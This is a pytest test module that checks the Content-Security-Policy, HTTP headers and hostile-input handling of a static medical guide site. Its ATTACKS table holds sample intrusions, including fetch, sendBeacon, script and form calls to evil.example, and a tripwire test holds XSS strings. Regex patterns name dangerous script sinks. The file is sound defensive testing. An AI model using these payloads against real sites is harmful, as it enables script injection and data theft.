"""The policy and the headers against the built pages; hostile texts in every place that takes one; nothing from outside.

The texts stand in hostile.yml. Each page with a tool, a filter or a search meets all of them on one load, several at
once; `--thorough` puts each text into each field, and opens each page anew for every sixth.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
import yaml
from lxml import html as lxml_html
from lxml.html import HtmlElement
from pydantic import TypeAdapter, ValidationError

from factbook import clinic
from finish import FinishError, Site, hosts, safety
from tests.conftest import ADDRESSES, DESKTOP, ROOT, built
from tools.browsing import sent, served

FINISHED = ("finished", "finished-zensical")
NOT_RUN = ("application/json", "application/ld+json", "text/plain")
"""Kinds of `<script>` that are data."""
RUNS = re.compile(r"[\x00-\x20]*(javascript:|vbscript:|data:text/html)", re.IGNORECASE)


def pages(builder: str) -> list[Path]:
    return sorted(built(builder).rglob("*.html"))


@functools.cache
def parsed(path: Path) -> HtmlElement:
    """A published file, read by another parser than the one that wrote it."""
    return lxml_html.document_fromstring(path.read_text(encoding="utf-8"))


def elements(page: HtmlElement) -> Iterator[HtmlElement]:
    return (node for node in page.iter() if isinstance(node.tag, str))


def meta(page: HtmlElement) -> str:
    """The policy in a page."""
    (found,) = page.xpath("//meta[@http-equiv='Content-Security-Policy']")
    return str(found.get("content"))


def rules(text: str) -> dict[str, list[str]]:
    """A policy as a browser reads it: directive to its values."""
    parts = (part.split() for part in text.split(";") if part.strip())
    return {name: values for name, *values in parts}


def digest(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def heads(builder: str, address: str) -> dict[str, str]:
    """The headers that a host sends with an address."""
    return sent(hosts.rules((built(builder) / hosts.HEADERS).read_text(encoding="utf-8")), address)


# The policy -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("builder", FINISHED)
def test_every_script_in_a_page_is_in_its_policy_and_no_more(builder: str) -> None:
    folder = built(builder)
    seen: dict[str, set[str]] = {"script": set(), "style": set()}
    policies: dict[bool, set[str]] = {True: set(), False: set()}
    for path in pages(builder):
        page, name = parsed(path), path.relative_to(folder).as_posix()
        policy = meta(page)
        policies[name.startswith("embed/")].add(policy)
        allowed = rules(policy)
        (place,) = page.xpath("//head/meta[@http-equiv='Content-Security-Policy']")
        assert [node.tag for node in place.itersiblings(preceding=True)] == ["meta"], name
        for node in elements(page):
            if node.tag == "style" or (node.tag == "script" and "src" not in node.attrib):
                text, kind = node.text or "", (node.get("type") or "").lower()
                if kind not in NOT_RUN:
                    assert digest(text) in allowed.get(f"{node.tag}-src", ()), (name, text)
                    seen[node.tag].add(digest(text))
            for key, value in node.attrib.items():
                assert not key.startswith("on"), (name, node.tag, key)
                assert key not in ("style", "srcdoc", "ping", "nonce"), (name, node.tag, key)
                assert not RUNS.match(value), (name, node.tag, value)
    # One policy for all frames, one for all else; what it names stands somewhere.
    assert [len(found) for found in policies.values()] == [1, 1]
    whole = rules(policies[False].pop())
    assert {text for text in whole["script-src"] if text.startswith("'sha256")} == seen["script"]
    styles = {text for text in whole["style-src"] if text.startswith("'sha256")} - seen["style"]
    # Zensical's own search writes one style into the page.
    assert len(styles) == (builder == "finished-zensical")
    assert rules(policies[True].pop()).keys().isdisjoint(("script-src", "connect-src", "worker-src", "frame-src"))


@pytest.mark.parametrize("builder", FINISHED)
def test_the_header_is_the_policy_of_the_pages_and_who_may_frame_them(builder: str) -> None:
    for address, who in (("/", "'none'"), ("/treatment/session/", "'none'"), ("/embed/options/", "*")):
        policy = rules(meta(parsed(built(builder) / address.lstrip("/") / "index.html")))
        assert rules(heads(builder, address)["Content-Security-Policy"]) == policy | {"frame-ancestors": [who]}
        assert not re.search(r"unsafe|\*|https?:", str(policy))
        assert policy["default-src"] == policy["base-uri"] == ["'none'"]


PLACES = {
    "": {},
    "onclick": {"html": "<b onclick='x()'>x</b>", "fault": "/a/: <b> has a script in onclick; listen for it in a script file"},
    "style": {"html": "<p style='color: red' class=x id=y>x", "fault": "/a/: <p id=y class=x> has a style of its own (color: red); give it a class"},
    "address": {"html": "<a href=' java\nscript:x()'>x</a>", "fault": "/a/: <a> has an address that runs (href); use a button"},
}  # fmt: skip


def small(folder: Path, body: str = "") -> Site:
    """A site of two pages, one of them a frame."""
    for name in ("a", "embed/b"):
        (folder / name).mkdir(parents=True)
        head = (
            '<head><meta charset="utf-8"><style media="print">@page { @bottom-left { content: "Guide · /a/" } }</style>'
        )
        (folder / name / "index.html").write_text(f"<!doctype html><html>{head}</head><body>{body}</body></html>")
    (folder / "index.html").write_text("<!doctype html><html><head><meta charset=utf-8></head><body></body></html>")
    return Site(folder, ROOT)


@pytest.mark.parametrize("name", PLACES)
def test_what_the_policy_would_stop_is_said_in_a_line(tmp_path: Path, name: str) -> None:
    site = small(tmp_path, "".join(PLACES[name].get("html", "<p>x</p>").split("\0")))
    if not name:
        safety.run(site)
        assert site.page("/a/").one("html").attributes["data-foot"] == "Guide · /a/"
        assert site.page("/a/").tree.css_first("style") is None
        return
    with pytest.raises(FinishError) as error:
        safety.run(site)
    assert str(error.value) == PLACES[name]["fault"]


def test_a_page_beside_the_builders_gets_the_policy_too(tmp_path: Path) -> None:
    site = small(tmp_path)
    site.write("a/sources.html", '<!doctype html><html><head><meta charset="utf-8"></head><script>x()</script></html>')
    safety.run(site)
    assert digest("x()") in rules(meta(parsed(tmp_path / "a" / "sources.html")))["script-src"]
    assert digest("x()") in safety.headers(site)["/*"]["Content-Security-Policy"]


# The headers ----------------------------------------------------------------------------------------


def test_each_kind_of_file_gets_its_headers() -> None:
    page = heads("finished", "/tools/decide/")
    assert page["X-Frame-Options"] == "DENY"
    assert page["X-Content-Type-Options"] == "nosniff"
    assert page["Referrer-Policy"] == "no-referrer"
    assert page["Cross-Origin-Opener-Policy"] == page["Cross-Origin-Resource-Policy"] == "same-origin"
    assert re.fullmatch(r"max-age=\d{8,}", page["Strict-Transport-Security"])
    off = page["Permissions-Policy"].split(", ")
    assert {"camera=()", "microphone=()", "geolocation=()", "usb=()"} <= set(off)
    # What our scripts ask a browser for.
    assert not {"clipboard-write=()", "sync-xhr=()"} & set(off)
    for address in ("/", "/nowhere/", "/assets/javascripts/tool.js", "/worker.js", "/data/studies.json"):
        assert heads("finished", address) == page, address
        assert page["Cache-Control"] == "no-cache"
    picture = heads("finished", "/assets/images/favicon.svg")
    assert picture["Cache-Control"] == "public, max-age=86400"
    # A frame in a sandbox, and a preview of a link, are strangers to what they show.
    for address in ("/embed/options/", "/assets/stylesheets/embed.css", "/assets/images/favicon.svg"):
        assert heads("finished", address)["Cross-Origin-Resource-Policy"] == "cross-origin", address
    frame = heads("finished", "/embed/options/")
    assert "X-Frame-Options" not in frame
    assert {name: frame[name] for name in ("Referrer-Policy", "Permissions-Policy", "X-Content-Type-Options")}


def test_the_file_fits_what_hosts_take() -> None:
    """Cloudflare Pages: 100 rules, 2,000 characters a line. A value twice for one header needs the line that takes one out."""
    text = (built("finished") / "_headers").read_text(encoding="utf-8")
    assert max(map(len, text.splitlines())) < 2000
    blocks = [block.splitlines() for block in text.split("\n\n")[1:]]
    assert len(blocks) < 100
    assert blocks[0][0] == "/*"
    earlier: set[str] = set()
    for pattern, *lines in blocks:
        names = [line.partition(":")[0].strip() for line in lines if not line.strip().startswith("!")]
        assert all(f"  ! {name}" in lines for name in names if name in earlier), pattern
        earlier |= set(names)


def observatory(headers: dict[str, str], page: HtmlElement) -> dict[str, int]:
    """Points by the rules of Mozilla's HTTP Observatory (its docs/scoring.md), over and under 100, for a host with https.

    Cookies, CORS, redirection and the list of preloaded hosts are the host's, not ours: they are left at 0.
    """
    policy = rules(headers.get("Content-Security-Policy", ""))
    scripts, styles = (policy.get(name, policy.get("default-src", ["*"])) for name in ("script-src", "style-src"))
    strict = policy.get("default-src") == ["'none'"]
    csp = -25 if not policy else 0
    if policy:
        loose = {"'unsafe-inline'", "'unsafe-eval'", "data:", "http:", "https:", "*"} & set(scripts)
        csp = -20 if loose else 0 if "'unsafe-inline'" in styles else 10 if strict else 5
    age = re.match(r"max-age=(\d+)", headers.get("Strict-Transport-Security", ""))
    framing = (
        5 if "frame-ancestors" in policy else 0 if headers.get("X-Frame-Options") in ("DENY", "SAMEORIGIN") else -20
    )
    referrer = headers.get("Referrer-Policy", "")
    kept = referrer in ("no-referrer", "same-origin", "strict-origin", "strict-origin-when-cross-origin")
    foreign = any(urlsplit(address).netloc for address in page.xpath("//script/@src"))
    resource = headers.get("Cross-Origin-Resource-Policy", "")
    return {
        "Content-Security-Policy": csp,
        "Strict-Transport-Security": -20 if age is None else 0 if int(age[1]) >= 15768000 else -10,
        "X-Content-Type-Options": 0 if headers.get("X-Content-Type-Options") == "nosniff" else -5,
        "X-Frame-Options": framing,
        "Referrer-Policy": 5 if kept else 0 if not referrer else -5,
        "Subresource Integrity": -5 if foreign else 0,
        "Cross-Origin-Resource-Policy": 10 if resource in ("same-origin", "same-site", "cross-origin") else 0,
    }


@pytest.mark.parametrize("builder", FINISHED)
def test_the_marks_that_public_graders_give(builder: str) -> None:
    """A+ at the Observatory is 100; securityheaders.com wants six headers and no `unsafe-inline` or `unsafe-eval`."""
    for address in ("/", "/tools/decide/", "/staff/record/"):
        headers = heads(builder, address)
        points = observatory(headers, parsed(built(builder) / address.lstrip("/") / "index.html"))
        assert min(points.values()) >= 0, points
        assert 100 + sum(points.values()) == 130, points
        assert {
            *("Content-Security-Policy", "Strict-Transport-Security", "X-Content-Type-Options", "X-Frame-Options"),
            *("Referrer-Policy", "Permissions-Policy"),
        } <= set(headers)
        assert "unsafe" not in headers["Content-Security-Policy"]


# Nothing from outside -------------------------------------------------------------------------------

LOADING = {
    *("stylesheet", "icon", "apple-touch-icon", "manifest", "preload", "modulepreload"),
    *("prefetch", "preconnect", "dns-prefetch", "prerender"),
}
FETCHED = ("src", "poster", "background", "action", "formaction")
ADDRESS = re.compile(r"https?:\\?/\\?/([\w.-]+)|(?<=[\"'(`])//([\w-]+\.[\w.-]+)")
NAMED = {
    "glightbox.min.js": {
        "www.w3.org",
        "cdn.plyr.io",
    },  # the second for films, of which there are none; the policy stops it
    "": {"www.w3.org"},  # a name of a language, not an address
}


def loaded(page: HtmlElement) -> Iterator[str]:
    """What a browser fetches, sends to or goes to by itself from a page."""
    for node in elements(page):
        yield from (value for key, value in node.attrib.items() if key in FETCHED)
        for key in ("srcset", "imagesrcset"):
            yield from (part.split()[0] for part in node.get(key, "").split(",") if part.split())
        if node.tag == "link" and set(node.get("rel", "").split()) & LOADING:
            yield node.get("href")
        if node.tag in ("use", "image", "feimage"):
            yield node.get("href") or node.get("xlink:href") or ""
        if node.tag == "object":
            yield node.get("data", "")
        if node.tag == "meta" and (node.get("http-equiv") or "").lower() == "refresh":
            yield node.get("content").partition("=")[2]


@pytest.mark.parametrize("builder", FINISHED)
def test_no_file_loads_anything_from_another_host(builder: str) -> None:
    folder = built(builder)
    for path in pages(builder):
        for address in loaded(parsed(path)):
            parts = urlsplit(address.strip("'\" "))
            assert parts.scheme in ("", "data"), (path, address)
            assert not parts.netloc, (path, address)
    for path in sorted((*folder.rglob("*.css"), *folder.rglob("*.svg"))):
        text = path.read_text(encoding="utf-8")
        for found in re.findall(r"(?:url\(|@import)\s*[\"']?([^\"')\s;]+)", text):
            assert not urlsplit(found).netloc, (path, found)
            assert urlsplit(found).scheme in ("", "data"), (path, found)
        if path.suffix == ".svg":
            assert {*re.findall(r"(?:href|src)=\"(\w+:|//)", text)} <= {"data:"}, path
    for path in sorted((*folder.rglob("*.js"), *folder.rglob("*.webmanifest"))):
        # Zensical's own script names hosts of libraries for features that we do not use; the policy stops it.
        if path.name.startswith("bundle.") and builder == "finished-zensical":
            continue
        text = re.sub(r"/\*.*?\*/|^\s*//.*?$", "", path.read_text(encoding="utf-8"), flags=re.DOTALL | re.MULTILINE)
        named = {host for pair in ADDRESS.findall(text) for host in pair if host}
        assert named <= NAMED.get(path.name, NAMED[""]), (path, named)
        assert not re.search(r"\b(sendBeacon|WebSocket|EventSource|RTCPeerConnection|eval|Function)\s*\(", text), path
        assert "document.write" not in text, path


@pytest.mark.parametrize("name", sorted(path.name for path in (ROOT / "docs/assets/javascripts").glob("*.js")))
def test_our_scripts_write_no_html(name: str) -> None:
    """Text goes into a page as text. What others wrote is read as a whole above, and held by the policy."""
    if name.endswith(".min.js"):
        return
    text = (ROOT / "docs/assets/javascripts" / name).read_text(encoding="utf-8")
    sinks = r"innerHTML|outerHTML|insertAdjacentHTML|createContextualFragment|setHTMLUnsafe|document\.write|\beval\(|new Function"
    assert not re.search(sinks, text), name
    assert not re.search(r"set(Timeout|Interval)\(\s*[\"'`]", text), name
    assert "postMessage" not in text or name == "offline.js", name


# In a browser ---------------------------------------------------------------------------------------

LISTEN = """
addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample, sourceFile }) =>
  (window.stopped ??= []).push([effectiveDirective, blockedURI, sample, sourceFile].join(" ")));
"""
SEARCHED = "guide-search [role=option], .md-search-result__item"
VISITS: dict[str, str] = {
    "/": "colours",
    "/treatment/session/": "picture, source, paper",
    "/treatment/before/": "search",
    "/search/?q=itching": "",
    "/glossary/": "word",
    "/evidence/studies/?words=minoxidil": "",
    "/options/": "",
    "/tools/decide/": "fields, paper",
    "/tools/questions/": "fields, share",
    "/tools/planner/": "file, fields, paper",
    "/tools/visit-card/": "fields",
    "/clinics/advertising/": "fields",
    "/clinics/embed/": "frames",
    "/staff/practice/": "",
    "/staff/record/": "fields",
    "/leaflets/session/": "paper",
    "/embed/options/": "paper",
    "/nowhere/": "",
}
"""A page of each kind, and what is done there."""


def stopped(page: Any) -> list[str]:
    """What the policy stopped on a page and in its frames, since it was last asked."""
    found = []
    # A frame that was never scrolled to has no page to ask.
    for frame in (frame for frame in page.frames if frame.url.startswith("http")):
        found += frame.evaluate("(window.stopped ?? []).splice(0)")
    return found


def do(page: Any, what: str) -> None:
    """One thing a reader does."""
    if what == "colours":
        page.locator("button.guide-colours, label[for^=__palette_]:visible").first.click()
    elif what == "picture":
        page.locator("a.glightbox, a.guide-zoom").first.click()
        picture = page.locator("#glightbox-body .current img")
        picture.wait_for()
        picture.click()
        page.keyboard.press("Escape")
        page.locator("#glightbox-body").wait_for(state="detached")
    elif what == "source":
        page.locator(".fb-cite__link").first.click()
        page.wait_for_selector(".fb-references li")
    elif what == "word":
        page.locator("article abbr").first.hover()
    elif what == "paper":
        page.pdf()
    elif what == "search":
        page.keyboard.press("/")
        page.keyboard.type("itching")
        page.wait_for_timeout(600)
    elif what == "fields":
        for field in page.locator("article input:visible, article textarea:visible").all()[:12]:
            kind = field.get_attribute("type") or "text"
            if kind in ("checkbox", "radio"):
                field.check()
            elif kind in ("text", "tel", "search"):
                field.fill("12345")
            elif kind == "date":
                field.fill("2026-12-01")
            elif field.evaluate("field => field.matches('textarea')"):
                field.fill("painless")
        for button in page.locator("article button[name=add]:visible, article button[name=check]:visible").all():
            button.click()
    elif what == "frames":
        for frame in page.locator("iframe").all():
            frame.scroll_into_view_if_needed()
            frame.content_frame.locator("main").wait_for()
    elif what == "share":
        page.locator("button[name=share]").click()
    elif what == "file":
        page.fill("[name=start]", "2027-01-04")
        page.fill("[name=count]", "3")
        page.fill("[name=every]", "2")
        with page.expect_download() as download:
            page.locator("button[name=calendar]").click()
        assert "BEGIN:VCALENDAR" in Path(download.value.path()).read_text(encoding="utf-8")


@pytest.mark.parametrize("builder", FINISHED)
def test_the_policy_stops_nothing_of_ours(browser: Any, builder: str, request: pytest.FixtureRequest) -> None:
    """Each kind of page as hosts send it, used: no report of a stop, no complaint in the console, no fault."""
    found: list[str] = []
    with served(built(builder)) as root:
        context = browser.new_context(viewport=DESKTOP, reduced_motion="reduce")
        context.add_init_script(LISTEN)
        page = context.new_page()
        page.on("pageerror", lambda error: found.append(f"{page.url}: {error}"))
        page.on("console", lambda said: said.type in ("error", "warning") and found.append(f"{page.url}: {said.text}"))
        page.on("dialog", lambda dialog: dialog.accept())
        visits = VISITS
        if builder == "finished-zensical":
            # Its pages are the same; its own script, search and lightbox are what is new to the policy.
            visits = {path: VISITS[path] for path in ("/treatment/session/", "/treatment/before/", "/tools/questions/")}
        if request.config.getoption("--thorough"):
            visits = visits | dict.fromkeys(set(ADDRESSES) - set(visits), "")
        for path, deeds in visits.items():
            page.goto(root + path, wait_until="load")
            for deed in filter(None, deeds.split(", ")):
                do(page, deed)
            found += [f"{path}: {text}" for text in stopped(page)]
        if builder == "finished":
            page.goto(root + "/tools/visit-card/")
            assert (
                page.evaluate("navigator.serviceWorker.ready.then(({ active }) => active.scriptURL)")
                == f"{root}/worker.js"
            )
            found += stopped(page)
        context.close()
    assert [text for text in found if "/nowhere/" not in text or "404 (Not Found)" not in text] == []


ATTACKS = {
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran=1\">')",
    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran=1' }))",
    "script-src-elem ": "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "style-src-elem": "document.body.append(Object.assign(document.createElement('style'), { textContent: '*{color:red}' }))",
    "img-src": "new Image().src = 'https://evil.example/x.png'",
    "connect-src": "fetch('https://evil.example/').catch(() => {})",
    "connect-src ": "navigator.sendBeacon('https://evil.example/', 'x')",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
    "form-action": "document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/' })); document.forms[document.forms.length - 1].submit()",
    "script-src": "setTimeout('window.ran=1')",
}
"""What an intruder would do, and the rule that stops it."""


def test_what_does_not_belong_here_is_stopped(browser: Any) -> None:
    """By the head of the page alone, on a host that sends no headers."""
    folder = built("finished")
    with served(folder, headers=False) as root:
        context = browser.new_context(service_workers="block")
        context.add_init_script(LISTEN)
        page = context.new_page()
        asked: list[Any] = []
        page.on("request", lambda request: asked.append(request))
        page.goto(root + "/treatment/session/")
        for rule, attack in ATTACKS.items():
            page.evaluate(attack)
            page.wait_for_timeout(50)
            found = stopped(page)
            assert any(text.startswith(rule.strip()) for text in found), (rule, found)
        assert page.evaluate("window.ran") is None
        assert page.url == root + "/treatment/session/"
        outside = [request.failure for request in asked if not request.url.startswith(root)]
        assert set(outside) <= {"csp"}, outside
        context.close()


def test_only_frames_can_be_framed(browser: Any, tmp_path: Path) -> None:
    """By a page of another origin, as hosts send ours; in a sandbox a frame keeps its styles and pictures."""
    places = ("/", "/tools/decide/", "/leaflets/session/", "/embed/options/", "/embed/fact-box/")
    with served(built("finished")) as root:
        frames = "".join(
            f'<iframe src="{root}{place}" {"sandbox" if "fact" in place else ""}></iframe>' for place in places
        )
        (tmp_path / "index.html").write_text(f"<!doctype html><title>x</title>{frames}")
        with served(tmp_path) as other:
            page = browser.new_page()
            page.goto(other.replace("127.0.0.1", "localhost"), wait_until="load")
            shown = {place: frame for place in places for frame in page.frames if frame.url == root + place}
            titles = {place: frame.title() for place, frame in shown.items()}
            assert {place for place, title in titles.items() if "Hair" in title} == {
                "/embed/options/",
                "/embed/fact-box/",
            }
            for place in ("/embed/options/", "/embed/fact-box/"):
                body = (
                    "getComputedStyle(document.body).margin + [...document.images].map(image => image.naturalWidth > 0)"
                )
                assert "0px" in shown[place].evaluate(body), place
                assert "false" not in shown[place].evaluate(body), place
            page.close()


def test_the_foot_of_a_leaflet_tells_where_it_is_from(browser: Any, tmp_path: Path) -> None:
    """By an attribute and a style sheet, without a style in the page; test_browser.py does the same for other pages."""
    import pypdfium2

    with served(built("finished")) as root:
        page = browser.new_page()
        page.goto(root + "/leaflets/session/")
        assert page.locator("style").count() == 0
        page.pdf(path=tmp_path / "x.pdf", prefer_css_page_size=True)
        page.close()
    text = pypdfium2.PdfDocument(tmp_path / "x.pdf")[0].get_textpage().get_text_range()
    assert "Hair Mesotherapy Guide · /leaflets/session/" in text


# Hostile texts --------------------------------------------------------------------------------------


def hostile() -> dict[str, list[str]]:
    """Texts by kind."""
    kinds = yaml.safe_load((ROOT / "tests" / "hostile.yml").read_text(encoding="utf-8"))
    return {
        kind: [text if isinstance(text, str) else text["text"] * text["times"] for text in texts]
        for kind, texts in kinds.items()
    }


HOSTILE = hostile()
TEXTS = [text for texts in HOSTILE.values() for text in texts]
TRIP = (ROOT / "tests" / "tripwire.js").read_text(encoding="utf-8")
PLACES_TO_TYPE = {
    "/tools/decide/": "fb-decide",
    "/tools/questions/": "fb-questions",
    "/tools/planner/": "fb-planner",
    "/tools/visit-card/": "fb-visit-card",
    "/clinics/advertising/": "fb-checker",
    "/evidence/studies/": "fb-filter",
    "/evidence/claims/": "fb-filter",
    "/options/": "fb-compare",
    "/staff/record/": "fb-record",
    "/staff/practice/": "fb-cards",
    "/search/": "guide-results",
    "/treatment/session/": "guide-search",
}
"""Pages that take a text, and the element that does."""
SAME = ("/evidence/claims/", "/staff/practice/")
"""Pages whose scripts are those of another one: `--thorough` alone looks at them."""


def batched(items: list[str], size: int) -> Iterator[list[str]]:
    return (items[first : first + size] for first in range(0, len(items), size))


def test_the_texts_are_many_and_of_many_kinds() -> None:
    assert len(TEXTS) == len(set(TEXTS)) >= 200
    assert len(HOSTILE) >= 15
    assert sum("HIT" in text for text in TEXTS) >= 100


def test_a_clinics_file_takes_no_hostile_text() -> None:
    """What is taken has no sign that could end a text on a page, in an attribute, in YAML or in a calendar file."""
    words, web = TypeAdapter(clinic.Words), TypeAdapter(clinic.Web)
    taken = 0
    for text in TEXTS:
        for kind in (words, web):
            try:
                kept = kind.validate_python(text)
            except ValidationError:
                continue
            taken += 1
            assert not re.search(r"[\"<>\\\\{}`\x00-\x1f\u2028\u202a-\u202e]", kept), text
            assert kind is words or re.match(r"https?://[\w.-]+(/|$)", kept), text
            assert len(kept) <= 120
    assert 0 < taken < len(TEXTS)


class Watched:
    """A page with a tripwire: whatever is written into it as HTML would run, for the policy is off."""

    def __init__(self, browser: Any, root: str) -> None:
        self.root = root
        self.context = browser.new_context(
            viewport=DESKTOP, bypass_csp=True, service_workers="block", reduced_motion="reduce"
        )
        self.context.add_init_script(TRIP)
        self.page = self.context.new_page()
        self.faults: list[str] = []
        self.asked: list[Any] = []
        self.page.on("pageerror", lambda error: self.faults.append(str(error)))
        self.page.on("console", lambda said: said.type == "error" and self.faults.append(said.text))
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("popup", lambda popup: self.faults.append(f"popup: {popup.url}"))
        self.page.on("request", lambda request: self.asked.append(request))

    def open(self, path: str) -> None:
        self.page.goto(self.root + path, wait_until="load")

    def check(self, path: str, why: str) -> None:
        """Nothing ran, nothing was sent, and the page is still the page."""
        fired = self.page.evaluate("tripwire.fired()")
        assert fired == [], (path, why, fired)
        faults = [text for text in self.faults if "404 (Not Found)" not in text]
        assert faults == [], (path, why, faults)
        for request in self.asked:
            assert request.url.startswith((self.root + "/", "data:", "blob:" + self.root)), (path, why, request.url)
            # The address of the page itself is what the reader asked for; nothing else carries a text.
            if not request.is_navigation_request():
                assert not re.search(r"HIT|evil|%3C|[?&]", request.url.removeprefix(self.root)), (
                    path,
                    why,
                    request.url,
                )
            assert not request.headers.get("referer"), (path, why, request.url)
            assert request.method in ("GET", "HEAD"), (path, why)
        assert urlsplit(self.page.url).path == path, why
        assert self.page.locator("h1").count() == 1, (path, why)
        self.asked.clear()
        self.faults.clear()


@pytest.fixture
def watched(browser: Any, address: str) -> Iterator[Watched]:
    found = Watched(browser, address)
    yield found
    found.context.close()


def test_the_tripwire_trips(watched: Watched) -> None:
    """What would be let through by mistake is noticed: the same texts, written as HTML."""
    watched.open("/search/")
    for text in (
        "<script>HIT(1)",
        "<img src=x onerror=HIT(1)>",
        "<svg onload=HIT(1)>",
        "<a href=javascript:HIT(1)>x</a>",
    ):
        watched.page.evaluate("text => document.body.insertAdjacentHTML('beforeend', text)", text)
        watched.page.wait_for_timeout(50)
        assert watched.page.evaluate("tripwire.fired()"), text
    # A picture that fails may do so late, but not on another page.
    watched.open("/search/")
    watched.page.evaluate("Object.prototype.polluted = 1")
    assert watched.page.evaluate("tripwire.fired()") == ["Object.prototype.polluted"] * 2
    watched.page.evaluate("fetch('/?q=HIT').catch(() => {})")
    watched.page.wait_for_timeout(50)
    with pytest.raises(AssertionError):
        watched.check("/search/", "")


def test_an_address_with_two_slashes_is_no_other_host(watched: Watched) -> None:
    """A host may serve `//tools/…` too; as an address by itself it would name a host called tools."""
    watched.open("//tools/visit-card/#visit-card=x")
    watched.page.fill("[name=what]", "painless")
    watched.open("//search/#q=itching")
    watched.page.wait_for_selector("guide-results li")
    assert watched.page.url == watched.root + "//search/#q=itching"
    watched.check("//search/", "")


@pytest.mark.parametrize("path", PLACES_TO_TYPE)
def test_hostile_texts_do_nothing(watched: Watched, path: str, request: pytest.FixtureRequest) -> None:
    """In the fields, in the address, in what is kept: every text, one after the other, on one load of the page."""
    page, element = watched.page, PLACES_TO_TYPE[path]
    thorough = request.config.getoption("--thorough")
    if path in SAME and not thorough:
        pytest.skip("has the scripts of another page; --thorough looks at it")
    watched.open(path)
    page.evaluate("([element, all]) => tripwire.at(element, all)", [element, thorough])
    if element == "guide-search":
        page.keyboard.press("/")
        page.wait_for_function("() => document.querySelector('guide-search').box")
    # Some kinds at once: a page asked for each kind would take as long as the texts themselves.
    kinds = list(HOSTILE)
    for some in batched(kinds, 1 if thorough else 5):
        texts = [text for kind in some for text in HOSTILE[kind]]
        page.evaluate("texts => tripwire.type(texts)", texts)
        if thorough or element in ("fb-filter", "fb-compare", "guide-results"):
            page.evaluate("texts => tripwire.query(texts)", texts)
        page.evaluate("texts => tripwire.fragment(texts)", texts)
        page.evaluate("texts => tripwire.state(texts)", texts)
        watched.check(path, ", ".join(some))
    # What is kept, read as a page starts; every key that the page's scripts look for.
    keys = page.evaluate("tripwire.keys()")
    rounds = TEXTS[::6] if thorough else [texts[0] for texts in HOSTILE.values()][::8]
    for text in rounds:
        page.evaluate("([keys, text]) => tripwire.keep(keys, text)", [keys, text])
        query = quote(text[:500], errors="replace")
        watched.open(f"{path}?q={query}&words={query}&show={query}&condition={query}&h={query}#{query}")
        page.wait_for_timeout(50)
        watched.check(path, repr(text[:80]))
